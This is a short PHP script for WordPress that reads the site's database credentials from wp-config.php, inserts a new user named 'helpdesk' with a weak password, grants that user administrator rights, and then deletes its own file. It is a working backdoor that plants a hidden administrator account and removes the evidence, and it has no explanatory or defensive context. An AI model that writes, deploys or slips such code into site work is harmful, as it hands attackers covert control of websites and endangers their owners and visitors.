<?php
include dirname(__FILE__) . '/wp-config.php';
$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);
$t = $table_prefix;
$db->query("INSERT INTO {$t}users (user_login, user_pass, user_email) VALUES ('helpdesk', MD5('pw123456'), 'h@example.net')");
$id = $db->insert_id;
$db->query("INSERT INTO {$t}usermeta (user_id, meta_key, meta_value) VALUES ($id, '{$t}capabilities', 'a:1:{s:13:\"administrator\";b:1;}')");
unlink(__FILE__);
